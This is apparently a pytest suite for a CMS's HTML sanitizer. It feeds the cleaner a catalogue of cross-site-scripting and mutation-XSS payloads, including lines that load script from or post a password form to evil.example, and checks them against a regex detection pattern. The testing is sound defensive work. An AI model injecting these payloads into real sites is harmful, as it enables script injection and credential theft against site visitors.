"""Pasted HTML is harmless, whatever was pasted; what an administrator means stays."""

import re

import pytest

from cms.blocks.cleaning import CLEANER, clean_html, pieces_of
from cms.blocks.raw_html import RawHtmlBlock
from tests.cms.renderer import StrictRenderer

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "handler": '<img src="/x.png" onerror="alert(1)">',
    "handler without quotes": "<p onclick=alert(1)>x</p>",
    "handler after a slash": "<img/src='/x'/onerror=alert(1)>",
    "handler on details": "<details open ontoggle=alert(1)>x</details>",
    "handler on an unknown element": "<x onpointerenter=alert(1)>x</x>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in pieces": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript link in entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "javascript link after a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "svg with a handler": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by template": "<template><img src=x onerror=alert(1)></template>",
    "mutation by xmp": "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "mutation by title": "<title><img src=x onerror=alert(1)></title>",
    "mutation by textarea": "<textarea><script>alert(1)</script></textarea>",
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "class of the site": '<p class="consent">x</p>',
    "id that shadows": '<p id="consent">x</p>',
    "name that shadows": '<a name="consent" href="/x">x</a>',
    "act of the banner": '<span data-consent-act="accept">x</span>',
    "island": '<div data-island="video" data-props="{}">x</div>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "button of a form": '<button formaction="javascript:alert(1)">x</button>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "frame of elsewhere": '<iframe src="https://evil.example/"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame by script": '<iframe src="javascript:alert(1)"></iframe>',
    "frame of a look-alike": '<iframe src="https://youtube.com.evil.example/embed/abcdefgh"></iframe>',
    "frame with a user name": '<iframe src="https://youtube.com@evil.example/embed/abcdefgh"></iframe>',
    "frame with a broken address": '<iframe src="https://[youtube.com/embed/abcdefgh"></iframe>',
    "frame of a film file": '<iframe src="https://evil.example/x.mp4"></iframe>',
    "picture of elsewhere": '<img src="https://evil.example/pixel.gif">',
    "picture of elsewhere, short": '<img src="//evil.example/pixel.gif">',
    "picture of elsewhere, backslash": '<img src="/\\evil.example/pixel.gif">',
    "picture set of elsewhere": '<img src="/a.png" srcset="https://evil.example/x.png 2x">',
    "link of elsewhere, short": '<a href="//evil.example">x</a>',
    "opener": '<a href="https://example.com" target="_blank">x</a>',
    "video": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "unclosed": "<p><b><table><tr><td><img src=x onerror=alert(1)",
    "zero byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}  # fmt: skip
DANGER = re.compile(
    r"<(?:script|style|svg|math|object|embed|form|input|button|base|meta|link|template|video|xmp)\b"
    r"|<[^>]*\s(?:on\w+|style|class|id|name|srcdoc|srcset|target|data-[\w-]+|formaction)\s*="
    r"|(?:href|src)=[\"']?\s*(?:[a-z\s]*script:|data:|//)"
    r"|<!--|<\?|\bsrc=[\"'][^\"']*evil",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_dangerous_is_left(name: str) -> None:
    cleaned = clean_html(HOSTILE[name])
    delivered = "".join(piece.html for piece in pieces_of(cleaned))
    for html in (cleaned, delivered):
        assert not DANGER.search(html), html
    assert not any(piece.player for piece in pieces_of(cleaned))


@pytest.mark.parametrize("name", HOSTILE)
def test_cleaning_again_changes_nothing(name: str) -> None:
    cleaned = clean_html(HOSTILE[name])
    assert clean_html(cleaned) == cleaned


def test_the_danger_is_seen_where_nobody_cleans() -> None:
    """The negative control; the others are dangerous only to whoever reads as browsers do."""
    seen = [name for name, html in HOSTILE.items() if DANGER.search(html)]
    assert len(seen) >= 40


def test_what_is_stored_already_is_cleaned_on_delivery() -> None:
    stored = {"html": "<p onclick=alert(1)>Old</p><script>alert(1)</script>"}
    made = RawHtmlBlock().get_api_representation(stored, {"render": StrictRenderer()})
    assert made == {"pieces": [{"html": "<p>Old</p>", "film": None}]}


def test_what_is_meant_stays() -> None:
    html = (
        '<h3 lang="de">Tor &amp; Tür</h3>'
        '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'
        '<p><a href="https://example.com/" rel="noopener noreferrer">b</a>'
        '<img src="/media/c.png" alt="c"></p>'
        '<details open=""><summary>d</summary>e</details>'
    )
    assert clean_html(html) == html


def test_a_film_divides_the_html_and_each_piece_is_whole() -> None:
    html = (
        "<div><p>Before</p><section>"
        '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ?autoplay=1" title="Film" '
        'allow="autoplay">No frames</iframe>'
        "<p>After &lt;3</p></section></div>"
    )
    first, second = pieces_of(clean_html(html))
    assert first.html == "<div><p>Before</p><section></section></div>"
    assert (first.title, first.player.embed_url) == (
        "Film", "https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ",
    )  # fmt: skip
    assert second == ("<div><section><p>After &lt;3</p></section></div>", None, "")


def test_saving_stores_what_is_left() -> None:
    block = RawHtmlBlock()
    cleaned = block.clean(block.to_python({"html": "<p onclick=x>a</p><script>b</script>"}))
    assert str(cleaned["html"]) == "<p>a</p>"


def test_the_cleaner_has_no_element_that_runs() -> None:
    assert CLEANER.clean("<iframe src='https://player.vimeo.com/video/76979871'></iframe>") == (
        '<iframe src="https://player.vimeo.com/video/76979871?dnt=1"></iframe>'
    )
